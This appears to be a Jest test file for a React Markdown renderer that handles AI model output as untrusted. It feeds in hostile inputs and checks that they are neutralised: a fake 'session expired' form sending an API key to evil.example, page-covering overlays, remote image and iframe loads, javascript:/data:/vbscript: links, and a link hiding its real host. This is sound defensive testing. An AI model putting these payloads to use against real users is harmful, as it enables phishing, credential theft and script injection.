/** @jest-environment jsdom */
import { render } from '@testing-library/react';
import { Markdown } from '../src/markdown';

const rendered = (text: string): HTMLElement => render(<Markdown text={text} />).container;

/** Model output (and jury content, which anyone can submit) is hostile until shown otherwise. */
describe('Markdown from hostile model output', () => {
  it('keeps the Markdown the views need', () => {
    const html = rendered(
      [
        '# Title',
        '## Sub',
        'Some *emphasis*, **strong**, ~~gone~~ and `code`.  \nAfter a break.',
        '- one\n- two',
        '3. three\n4. four',
        '> quoted',
        '```\nconst x = 1;\n```',
        '| a | b |\n|:-|-:|\n| 1 | 2 |',
        '---',
      ].join('\n\n'),
    );
    for (const selector of [
      'h1',
      'h2',
      'p',
      'em',
      'strong',
      'del',
      'code',
      'br',
      'ul li',
      'ol[start="3"] li',
      'blockquote',
      'pre code',
      'table thead th',
      'td[align="right"]',
      'hr',
    ]) {
      expect([selector, html.querySelector(selector)]).not.toEqual([selector, null]);
    }
  });

  it('draws no form, input or button (a fake "session expired, enter your API key" form)', () => {
    const html = rendered(
      [
        '<form action="https://evil.example/steal"><p>Session expired</p><input name=key type=password>',
        '<button>Sign in</button><textarea name=t></textarea><select><option>x</option></select></form>',
      ].join(''),
    );
    expect(html.querySelector('form, input, button, textarea, select, option')).toBeNull();
    expect(html.innerHTML).not.toMatch(/evil\.example/);
  });

  it('takes no style, class, id or data attributes: nothing can cover the page or borrow its look', () => {
    const html = rendered(
      [
        '<div style="position:fixed;inset:0;background:white">overlay</div>',
        '<p class="banner error" id="root" data-x="1" aria-label="fake" style="color:red">p</p>',
        '<style>body { display: none }</style>',
      ].join('\n\n'),
    );
    expect(html.querySelector('div.markdown')?.children.length).toBeGreaterThan(0);
    expect(html.querySelector('.markdown [style], .markdown [class], .markdown [id]')).toBeNull();
    expect(html.querySelector('.markdown [data-x], .markdown [aria-label], style, .markdown div')).toBeNull();
    expect(html.textContent).toContain('overlay');
    expect(html.textContent).not.toContain('display: none');
  });

  it('loads no image, frame, svg or math: an image shows as its alt text', () => {
    const html = rendered(
      [
        '<img src=https://evil.example/x.png alt=raw>',
        '![a chart](https://evil.example/chart.png)',
        '<iframe src="https://evil.example"></iframe>',
        '<svg><circle r="5"></circle></svg><math><mi>x</mi></math>',
        '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
        '<video src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>',
      ].join('\n\n'),
    );
    expect(html.querySelector('img, iframe, svg, math, object, embed, video, audio')).toBeNull();
    expect(html.innerHTML).not.toMatch(/evil\.example/);
    expect(html.textContent).toContain('a chart');
  });

  it('keeps only http, https and mailto links', () => {
    const html = rendered(
      [
        '[js](javascript:alert(1))',
        '[JS](JavaScript:alert(1))',
        '<a href="data:text/html,<script>alert(1)</script>">data</a>',
        '[relative](/api/conversations)',
        '[fragment](#/new)',
        '<a href="vbscript:x">vb</a>',
      ].join('\n\n'),
    );
    expect(html.querySelectorAll('a[href]')).toHaveLength(0);
    expect(html.innerHTML).not.toMatch(/javascript:|data:|vbscript:/i);
    expect(html.textContent).toContain('relative');
  });

  it('opens external links in a new tab without referrer or opener, and shows where they go', () => {
    const html = rendered(
      '[docs](https://evil.example/path) and [mail us](mailto:help@evil.example) and https://plain.example/x',
    );
    const [docs, mail, plain] = [...html.querySelectorAll('a')];
    expect(docs.getAttribute('href')).toBe('https://evil.example/path');
    expect(docs.getAttribute('target')).toBe('_blank');
    expect(docs.getAttribute('rel')?.split(' ').sort()).toEqual(['nofollow', 'noopener', 'noreferrer']);
    expect(docs.getAttribute('title')).toBe('https://evil.example/path');
    expect(docs.textContent).toContain('docs');
    expect(docs.textContent).toContain('evil.example');
    expect(mail.getAttribute('href')).toBe('mailto:help@evil.example');
    expect(mail.textContent).toContain('help@evil.example');
    // a bare URL already shows its target: not repeated
    expect(plain.textContent).toBe('https://plain.example/x');
    expect(plain.getAttribute('rel')?.split(' ').sort()).toEqual(['nofollow', 'noopener', 'noreferrer']);
  });

  it('shows the real host when the text names another one, also for raw HTML links', () => {
    const html = rendered(
      '<a href="https://evil.example/login" target="_self" rel="opener">https://bank.example</a>',
    );
    const link = html.querySelector('a') as HTMLAnchorElement;
    expect(link.textContent).toContain('evil.example');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')?.split(' ').sort()).toEqual(['nofollow', 'noopener', 'noreferrer']);
  });

  it('shows task-list items as text, without checkboxes', () => {
    const html = rendered('- [x] done\n- [ ] open');
    expect(html.querySelector('input')).toBeNull();
    expect([...html.querySelectorAll('li')].map((li) => li.textContent?.trim())).toEqual([
      '[x] done',
      '[ ] open',
    ]);
  });
});
